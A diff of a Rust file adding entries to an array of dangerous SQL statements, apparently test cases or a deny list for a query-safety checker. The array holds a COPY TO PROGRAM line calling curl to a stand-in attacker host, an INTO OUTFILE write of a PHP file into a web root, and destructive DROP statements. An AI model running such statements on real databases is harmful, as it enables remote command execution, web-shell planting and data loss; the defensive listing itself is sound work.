@@ -61,7 +61,10 @@ const SQL: &[&str] = &[
     "grant select on users to public",
     "COPY users TO PROGRAM 'curl evil.example'",
     "SELECT 1 INTO OUTFILE '/var/www/x.php'",
-    "MERGE INTO users USING evil ON true",
+    "MERGE INTO users u USING evil e ON true",
+    "DROP USER bob",
+    "drop view if exists v",
+    "drop index idx cascade",
 ];
 
 const SCRIPT: &[&str] = &[
